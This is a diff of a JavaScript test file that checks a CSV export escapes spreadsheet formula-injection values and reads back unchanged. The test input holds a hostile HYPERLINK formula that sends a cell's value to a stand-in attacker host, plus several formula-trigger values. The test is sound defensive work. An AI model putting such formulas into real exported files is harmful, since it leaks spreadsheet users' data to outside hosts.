@@ -72,8 +72,22 @@ describe('a CSV comes back', () => {
       1: ['NIK', 'Nama', 'Catatan Payung'],
       2: ['1', 'Émilie'],
       3: ['2'],
-      5: ['a;b', 'c "d"', "'=baru"],
+      5: ['a;b', 'c "d"', '=baru'],
     })
+  })
+
+  test('with nothing in it that a spreadsheet runs, and is read again as it was sent', async () => {
+    const sent = await aFile(
+      '=NIK;Nama;Telepon;Iuran\n1;=HYPERLINK("http://jahat.example/"&A2);+62 812-1;-16.800\n2; ＝1+1;-;+5\n"3\t@x";"Budi,=1";"\'=1";--\n',
+    )
+    const out = await annotated(sent, {}, new Map())
+    expect(await readFile(out, 'utf8')).toBe(
+      `'=NIK;Nama;Telepon;Iuran;Catatan Payung\r\n1;"'=HYPERLINK(""http://jahat.example/""&A2)";'+62 812-1;-16.800\r\n2;' ＝1+1;-;+5\r\n"3\t'@x";"Budi,'=1";'=1;--\r\n`,
+    )
+    const again = await annotated(out, {}, new Map())
+    expect(await readFile(again)).toEqual(await readFile(out))
+    const { 1: header, ...rows } = await readTexts(out)
+    expect({ 1: header?.slice(0, 4), ...rows }).toEqual(await readTexts(sent))
   })
 })
 
